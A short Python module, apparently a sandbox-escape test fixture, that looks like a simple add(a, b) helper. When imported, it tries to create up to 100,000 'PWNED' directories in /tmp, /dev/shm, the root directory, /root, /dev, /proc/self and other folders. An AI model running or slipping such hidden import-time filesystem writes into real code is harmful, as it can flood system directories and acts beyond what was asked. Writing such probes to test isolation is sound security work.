import os

made = 0
for folder in ("/tmp", "/dev/shm", "/", "/root", "/dev", "/proc/self", "@FOLDER@", "."):
    try:
        for number in range(100_000):
            os.mkdir(f"{folder}/PWNED{number}")
            made += 1
    except OSError:
        continue


def add(a, b):
    return a + b if made else None
